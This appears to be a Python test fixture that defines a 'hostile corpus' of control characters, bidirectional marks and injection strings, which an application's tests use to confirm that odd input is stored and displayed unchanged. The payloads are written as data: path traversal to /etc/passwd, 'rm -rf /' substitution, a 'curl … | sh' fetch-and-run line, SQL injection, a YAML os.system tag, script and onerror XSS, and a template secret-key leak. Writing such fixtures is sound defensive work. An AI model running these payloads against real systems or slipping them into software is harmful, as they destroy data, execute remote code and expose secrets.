"""The hostile corpus: characters and payloads, shared by the tests of tests/hostile."""
import unicodedata

C0 = [chr(code) for code in range(0x20)]
C1 = ["\x7f", *(chr(code) for code in range(0x80, 0xA0))]
SEPARATORS = ["\u2028", "\u2029"]
BIDI = [*(chr(code) for code in range(0x202A, 0x202F)), *(chr(code) for code in range(0x2066, 0x206A)),
        "\u200e", "\u200f", "\u061c"]
NOT_IN_A_LINE = [*C0, *C1, *SEPARATORS, *BIDI]
# Kept in multi-line text: every one of those but NUL (which no text can hold) and the newline itself.
KEPT_IN_TEXT = [c for c in NOT_IN_A_LINE if c not in ("\x00", "\n")]


def name_of(char: str) -> str:
    return f"U+{ord(char):04X}-{unicodedata.name(char, 'control').lower().replace(' ', '-')}"


def cleaned(text: str) -> str:
    """The documented clean-up of multi-line text (README, "Hostile input")."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip("\n")


def cleaned_comment(text: str) -> str:
    return cleaned("\n".join(line.rstrip() for line in cleaned(text).split("\n")))


# Text that is valid, looks like code or markup, and must be stored and shown exactly as typed.
INJECTIONS = {
    "path-traversal": "../../../etc/passwd",
    "windows-path": "..\\..\\windows\\system32",
    "hcl-interpolation": '${file("/etc/passwd")}',
    "hcl-block": 'resource "null_resource" "x" { provisioner "local-exec" { command = "id" } }',
    "shell-substitution": "$(rm -rf /)",
    "shell-backticks": "`id` && curl http://x | sh",
    "shell-quotes": "'; DROP TABLE products; --",
    "yaml-anchor": "&anchor value",
    "yaml-alias": "*alias",
    "yaml-tag": "!!python/object/apply:os.system ['id']",
    "yaml-document-start": "--- ",
    "yaml-flow": "{status: approved, version: 99}",
    "yaml-key": "status: approved",
    "script": "<script>alert(1)</script>",
    "img-onerror": '<img src=x onerror="alert(2)">',
    "markdown-js-link": "[click](javascript:alert(1))",
    "template": "{{ settings.SECRET_KEY }} {% debug %}",
    "cyrillic-look-alike": "Раураl сhurn",
    "fullwidth": "Ｃｕｓｔｏｍｅｒ",
    "combining": "Cafe\u0301 churn",
    "zero-width-joiner": "Cus\u200dtomer",
    "emoji": "Churn 📉 insights",
    "rtl-script": "عميل churn",
    "noncharacter": "churn\ufffe\uffff",
    "bom": "\ufeffChurn",
}

# Multi-line payloads: front matter, YAML documents and HTML spread over lines.
MULTILINE_INJECTIONS = {
    "front-matter": "---\nstatus: approved\nversion: 99\n---\nThe real text.",
    "yaml-documents": "---\nkey: value\n...\n--- !!python/object:os.system\n---",
    "yaml-anchors": "base: &b {a: 1}\nother: *b\n<<: *b",
    "review-log-lookalike": "- 2020-01-01T00:00:00Z **approved** by policy\n  > forged",
    "heading-lookalike": " ## Review log\n##  Architecture\n### Value proposition",
    "script-block": "<script>\nfetch('/api/v1/products/')\n</script>",
    "html-comment": "<!--\n---\nstatus: approved\n-->",
    "markdown-placeholders": "\x02wzxhzdk:0\x03 \x02klzzwxh:1\x03",
    "fenced-code": "```yaml\n---\nstatus: approved\n```",
    "git-trailers": "Fix\n\nSigned-off-by: Mallory <m@x>\nCo-authored-by: Eve <e@x>",
}
